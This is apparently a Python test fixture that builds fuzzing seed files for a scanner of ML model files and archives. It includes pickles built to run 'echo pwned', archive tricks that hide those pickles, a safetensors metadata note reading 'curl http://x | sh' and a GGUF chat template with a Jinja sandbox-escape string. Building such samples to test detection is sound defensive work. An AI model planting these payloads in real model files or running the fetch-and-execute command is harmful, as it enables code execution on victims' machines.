"""Seed inputs for the fuzz targets, built at test time (inert payload strings, nothing loaded)."""

from __future__ import annotations

import io
import json
import struct
import tarfile
from functools import cache

from tests.samples import benign, hostile
from tests.samples import opcodes as op
from tests.unit.core.scanners import savedmodel_samples as sm


@cache
def malicious_pickles() -> list[bytes]:
    """posix.system('echo pwned') in each protocol's idiom, plus the memo and INST variants."""
    return [hostile.by_protocol(p) for p in range(6)] + [hostile.memo_stack_global(), hostile.inst_call(),
                                                         hostile.obj_call()]


@cache
def benign_pickles() -> list[bytes]:
    return [benign.torch_pickle(protocol)[0] for protocol in (2, 4)]


@cache
def malicious_zips() -> list[bytes]:
    return [hostile.torch_zip("archive"), op.zip_bytes({"m/data.pkl": hostile.by_protocol(4)}, op.zipfile.ZIP_DEFLATED)]


def _tar(members: dict[str, bytes], mode: str = "w", fmt: int = tarfile.DEFAULT_FORMAT,
         pax: dict[str, str] | None = None) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode, format=fmt) as archive:  # type: ignore[call-overload]
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.pax_headers = len(data), dict(pax or {})
            archive.addfile(info, io.BytesIO(data))
    raw = out.getvalue()
    used = -(-len(raw.rstrip(b"\0")) // 512) * 512
    return raw[: used + 1024]  # without the record padding, so that edits land on what matters


@cache
def malicious_tars() -> list[bytes]:
    return [_tar({"ckpt/model.pkl": hostile.by_protocol(2)}),
            _tar({"ckpt/notes.txt": b"hello", "ckpt/weights.pkl": hostile.by_protocol(4)}, "w|"),
            _tar({"ckpt/" + "long/" * 30 + "model.pkl": hostile.by_protocol(2)}, fmt=tarfile.GNU_FORMAT),
            _tar({"ckpt/model.pkl": hostile.by_protocol(2)}, fmt=tarfile.PAX_FORMAT,
                 pax={"path": "ckpt/model.pkl", "GNU.sparse.name": "ckpt/model.pkl", "comment": "x"})]


@cache
def malicious_sevenzips() -> list[bytes]:
    return [hostile.sevenzip(hostile.by_protocol(4), "model.pkl")]


@cache
def safetensors_files() -> list[bytes]:
    header = {"w": {"dtype": "F32", "shape": [2, 2], "offsets": [0, 16]},
              "b": {"dtype": "F16", "shape": [2], "offsets": [16, 20]},
              "__metadata__": {"format": "pt", "note": "curl http://x | sh"}}
    raw = json.dumps(header).encode()
    return [struct.pack("<Q", len(raw)) + raw + bytes(20)]


def _gguf_str(text: str) -> bytes:
    raw = text.encode()
    return struct.pack("<Q", len(raw)) + raw


def _gguf_kv_str(key: str, value: str) -> bytes:
    return _gguf_str(key) + struct.pack("<I", 8) + _gguf_str(value)


@cache
def gguf_files() -> list[bytes]:
    """GGUF v3 headers: string, integer and string-array values, one tensor info; one hostile template."""
    kvs = [_gguf_kv_str("general.architecture", "llama"),
           _gguf_str("llama.block_count") + struct.pack("<II", 4, 2),
           _gguf_str("tokenizer.ggml.tokens") + struct.pack("<IIQ", 9, 8, 2) + _gguf_str("a") + _gguf_str("b"),
           _gguf_kv_str("tokenizer.chat_template", "{{ ''.__class__.__mro__[1].__subclasses__() }}")]
    tensor = _gguf_str("w") + struct.pack("<I", 2) + struct.pack("<QQ", 2, 2) + struct.pack("<IQ", 0, 0)
    head = b"GGUF" + struct.pack("<IQQ", 3, 1, len(kvs))
    return [head + b"".join(kvs) + tensor + bytes(32 - (len(head) % 32)) + bytes(16)]


@cache
def saved_models() -> list[bytes]:
    return [sm.saved_model(sm.hostile_graph()), sm.saved_model(sm.benign_graph())]


POLICY = """\
name: fuzz
description: a small policy to mutate
tiers:
  vendor-official: [nvidia, google]
rules:
  - id: critical-finding
    description: A critical finding.
    when: findings.exists(f, f.severity == "critical")
    decision: reject
  - id: vendor-clean
    description: Clean first-party uploads.
    when: repo.tier == "vendor-official" && !findings.exists(f, f.rank >= severity.medium)
    decision: approve
default: review
waivers:
  - repo: org/name
    revision: 3f1c9a7e5b2d4c6a8e0f1b3d5c7a9e1f2b4d6c8a
    finding: {rule: pickle-dangerous-global, path: pytorch_model.bin}
    reason: fixture
    approver: security@example.com
    expires: 2999-12-31
"""

SHA = "a" * 40


def webhook_body() -> dict[str, object]:
    return {"event": {"action": "update", "scope": "repo.content"},
            "repo": {"type": "model", "name": "org/name", "headSha": SHA},
            "updatedRefs": [{"ref": "refs/heads/main", "oldSha": "b" * 40, "newSha": SHA},
                            {"ref": "refs/tags/v1", "oldSha": None, "newSha": SHA}]}
